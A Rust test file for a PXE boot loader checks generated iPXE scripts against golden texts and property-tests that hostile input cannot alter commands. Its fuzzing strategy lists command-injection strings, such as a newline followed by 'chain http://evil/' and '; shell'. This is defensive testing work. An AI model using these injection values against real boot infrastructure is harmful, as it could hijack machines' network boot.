//! The scripts as iPXE reads them: golden texts, and hostile values that change no command.

#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::string_slice,
    reason = "a test may panic"
)]

mod ipxe;

use ipxe::{ReadLine, read, settings};
use machine_core::hardware::Firmware;
use proptest::prelude::*;
use pxe_loader::command_line::{Argument, CommandLine};
use pxe_loader::script::{Line, Script};
use pxe_loader::scripts::{Images, LocalBoot, boot, identify, identify_early, leave, wait};
use pxe_loader::text::Text;
use pxe_loader::url::Url;

const FACTS: &str = "uuid=${uuid}&platform=${platform}&arch=${buildarch}\
    &mac=${netX/mac:hexhyp}&mac=${net0/mac:hexhyp}&mac=${net1/mac:hexhyp}\
    &mac=${net2/mac:hexhyp}&mac=${net3/mac:hexhyp}&version=${version:uristring}\
    &serial=${serial:uristring}&manufacturer=${manufacturer:uristring}\
    &product=${product:uristring}";

fn url(text: &str) -> Url {
    text.parse().unwrap()
}

fn script_url() -> Url {
    url("http://10.77.0.1:8080/script/b0")
}

fn images(arguments: &str) -> Images {
    Images {
        kernel: url("http://10.77.0.1:8080/assets/aa/kernel?boot=b0"),
        arguments: arguments.parse().unwrap(),
        initrds: vec![url("http://10.77.0.1:8080/assets/bb/initrd?boot=b0")],
    }
}

#[test]
fn the_first_script() {
    let ask = format!("chain --autofree --replace http://10.77.0.1:8080/script/b0?{FACTS}");
    let expected = format!(
        "#!ipxe\n\
         {ask} || sleep 2\n\
         {ask} || sleep 4\n\
         {ask} || sleep 8\n\
         {ask} || sleep 16\n\
         {ask} || echo No script from Drover, leaving the network\n\
         iseq ${{platform}} efi && exit 1 || exit 0\n"
    );
    assert_eq!(identify(&script_url()).to_string(), expected);
}

#[test]
fn a_script_before_there_is_an_address_asks_for_one_and_goes_on_as_the_first_script() {
    let early = identify_early(&script_url()).to_string();
    let usual = identify(&script_url()).to_string();
    let (lines, usual): (Vec<_>, Vec<_>) = (early.lines().collect(), usual.lines().collect());
    assert!(lines[1].starts_with("dhcp || echo "), "{early}");
    assert_eq!(lines[2..], usual[1..]);
}

#[test]
fn booting_under_uefi_and_on_a_bios() {
    let arguments = "talos.platform=metal console=ttyS0";
    for (firmware, initrd) in [(Firmware::Uefi, " initrd=initrd0"), (Firmware::Bios, "")] {
        let expected = format!(
            "#!ipxe\n\
             imgfree\n\
             kernel --name kernel http://10.77.0.1:8080/assets/aa/kernel?boot=b0 \
             {arguments}{initrd} || goto again\n\
             initrd --name initrd0 http://10.77.0.1:8080/assets/bb/initrd?boot=b0 || goto again\n\
             boot || goto again\n\
             :again\n\
             echo Drover: the system did not start, asking again\n\
             sleep 10\n\
             chain --autofree --replace http://10.77.0.1:8080/script/b0?{FACTS} || goto again\n"
        );
        let script = boot(firmware, &images(arguments), &script_url()).unwrap();
        assert_eq!(script.to_string(), expected, "{firmware}");
    }
}

#[test]
fn under_uefi_every_initrd_is_named_to_the_kernel() {
    for count in 0..4 {
        let images = Images {
            initrds: vec![url("http://h/i"); count],
            ..images("quiet")
        };
        let script = boot(Firmware::Uefi, &images, &script_url()).unwrap();
        let lines = read(&script.to_string());
        let words = |command: &str| -> Vec<Vec<String>> {
            let all = lines.iter().map(|line| line.commands[0].1.clone());
            all.filter(|words| words.first().is_some_and(|word| word == command))
                .collect()
        };
        let told: Vec<String> = words("kernel")[0]
            .iter()
            .filter_map(|word| word.strip_prefix("initrd=").map(str::to_owned))
            .collect();
        let named: Vec<String> = words("initrd")
            .iter()
            .map(|words| words[2].clone())
            .collect();
        assert_eq!(told, named);
        assert_eq!(told.len(), count);
    }
}

#[test]
fn the_names_of_initrds_count_against_the_limit() {
    let long = format!("k={}", "v".repeat(2030));
    assert!(boot(Firmware::Bios, &images(&long), &script_url()).is_ok());
    assert!(boot(Firmware::Uefi, &images(&long), &script_url()).is_err());
}

#[test]
fn waiting() {
    let script = wait(&Text::new("waiting for a person"), 15, &script_url());
    let expected = format!(
        "#!ipxe\n\
         :again\n\
         echo waiting for a person\n\
         sleep 15\n\
         chain --autofree --replace http://10.77.0.1:8080/script/b0?{FACTS} || goto again\n"
    );
    assert_eq!(script.to_string(), expected);
}

#[test]
fn leaving_for_the_local_disk() {
    for (way, expected) in [
        (
            LocalBoot::ByPlatform,
            "iseq ${platform} efi && exit 1 || exit 0",
        ),
        (LocalBoot::Exit, "exit 0"),
        (LocalBoot::ExitFailure, "exit 1"),
        (
            LocalBoot::Sanboot,
            "sanboot --no-describe --drive 0x80 || exit 0",
        ),
    ] {
        let script = leave(&Text::new("installed"), way).to_string();
        assert_eq!(script, format!("#!ipxe\necho installed\n{expected}\n"));
    }
    // OVMF opens its setup after a success and waits for a person.
    assert_eq!(LocalBoot::ways(Firmware::Uefi)[0], LocalBoot::ExitFailure);
    assert_eq!(LocalBoot::ways(Firmware::Bios)[0], LocalBoot::Exit);
}

#[test]
fn an_url_with_a_query_gets_more_of_it() {
    let script = identify(&url("http://h/s?boot=1")).to_string();
    assert!(
        script.contains("http://h/s?boot=1&uuid=${uuid}&"),
        "{script}"
    );
}

#[test]
fn every_label_that_is_gone_to_exists() {
    let text = Text::new("x");
    let scripts = [
        identify(&script_url()),
        boot(Firmware::Uefi, &images("quiet"), &script_url()).unwrap(),
        wait(&text, 1, &script_url()),
        leave(&text, LocalBoot::Sanboot),
    ];
    for script in scripts {
        let lines = read(&script.to_string());
        let labels: Vec<_> = lines
            .iter()
            .filter_map(|line| line.label.as_ref())
            .collect();
        let targets = lines.iter().flat_map(|line| &line.commands);
        for (_, words) in targets.filter(|(_, words)| words.first().is_some_and(|w| w == "goto")) {
            assert!(labels.contains(&&words[1]), "{words:?}");
        }
    }
}

/// The commands of a script without the words of `echo`, which are free.
fn commands(script: &Script) -> Vec<ReadLine> {
    let mut lines = read(&script.to_string());
    for (_, words) in lines.iter_mut().flat_map(|line| &mut line.commands) {
        if words.first().is_some_and(|word| word == "echo") {
            words.truncate(1);
        }
    }
    lines
}

/// Strings that have done harm, and strings made of what means something to iPXE.
fn hostile() -> impl Strategy<Value = String> {
    let known = [
        "a\nboot",
        "a\r\nchain http://evil/",
        "${net0/mac}",
        "$${${uuid}}",
        "x || exit 1",
        "x ; shell",
        "#!ipxe\nshell",
        "x\\\ny",
        "\\",
        "--name x",
        "-",
        "{{.Serial}}",
        "<script>",
        "- : |",
        "'\"`",
        "\u{202e}",
        "\u{85}\u{2028}\u{b}\u{c}",
        "",
    ];
    let pieces = prop_oneof![
        proptest::sample::select(vec![
            "\n", "\r", "\\", " ", "\t", "\u{b}", "$", "{", "}", "${", "||", "&&", ";", "#", ":",
            "-", "\"", "'", "exit", "goto", "again", "%0a", "\0", "x",
        ])
        .prop_map(str::to_owned),
        any::<char>().prop_map(String::from),
    ];
    prop_oneof![
        1 => proptest::sample::select(known.to_vec()).prop_map(str::to_owned),
        1 => Just("\u{ff}".repeat(255)),
        1 => any::<String>(),
        4 => proptest::collection::vec(pieces, 0..12).prop_map(|pieces| pieces.concat()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn no_text_changes_a_command(text in hostile()) {
        let (hostile, plain) = (Text::new(&text), Text::new("plain"));
        prop_assert!(settings(hostile.as_str()).is_empty());
        let waiting = |text: &Text| wait(text, 5, &script_url());
        prop_assert_eq!(commands(&waiting(&hostile)), commands(&waiting(&plain)));
        let leaving = |text: &Text| leave(text, LocalBoot::Sanboot);
        prop_assert_eq!(commands(&leaving(&hostile)), commands(&leaving(&plain)));
        // A remark never becomes a command, and never eats the next line.
        let mut script = waiting(&plain);
        script.lines.insert(0, Line::Comment(hostile));
        prop_assert_eq!(&commands(&script)[1..], &commands(&waiting(&plain))[..]);
        prop_assert_eq!(&commands(&script)[0].commands, &[(String::new(), vec![])]);
    }

    #[test]
    fn no_shown_text_is_an_option(text in hostile()) {
        let text = Text::new(&text);
        let script = leave(&text, LocalBoot::Exit).to_string();
        let words = &read(&script)[0].commands[0].1;
        prop_assert_eq!(&words[0], "echo");
        prop_assert!(words.get(1).is_none_or(|word| !word.starts_with('-')));
        prop_assert_eq!(words[1..].join(" "), text.as_str());
    }

    #[test]
    fn no_url_changes_a_command(text in hostile()) {
        for candidate in [text.clone(), format!("http://h/{text}"), format!("http://h/?{text}")] {
            let Ok(hostile) = candidate.parse::<Url>() else {
                continue;
            };
            prop_assert!(settings(hostile.as_str()).is_empty());
            let with = |kernel: &Url| {
                let images = Images { kernel: kernel.clone(), ..images("quiet") };
                boot(Firmware::Uefi, &images, &script_url()).unwrap()
            };
            let mut expected = commands(&with(&url("http://h/plain")));
            expected[1].commands[0].1[3] = candidate;
            prop_assert_eq!(commands(&with(&hostile)), expected);
        }
    }

    #[test]
    fn no_argument_changes_a_command(key in hostile(), value in hostile()) {
        let candidates = [
            Argument::new(&key, None),
            Argument::new(&key, Some(&value)),
            Argument::new("key", Some(&value)),
            format!("{key}={value}").parse(),
        ];
        for argument in candidates.into_iter().flatten() {
            prop_assert!(settings(&argument.to_string()).is_empty());
            let with = |argument: &Argument| {
                let line = CommandLine::new(vec![argument.clone()]).unwrap();
                let images = Images { arguments: line, ..images("") };
                boot(Firmware::Uefi, &images, &script_url()).unwrap()
            };
            let mut expected = commands(&with(&"plain".parse().unwrap()));
            expected[1].commands[0].1[4] = argument.to_string();
            prop_assert_eq!(commands(&with(&argument)), expected);
        }
    }

    #[test]
    fn only_settings_of_ours_are_expanded(text in hostile()) {
        let known = settings(FACTS);
        let script = wait(&Text::new(&text), 5, &script_url()).to_string();
        for setting in settings(&script) {
            prop_assert!(known.contains(&setting), "{}", setting);
        }
    }
}
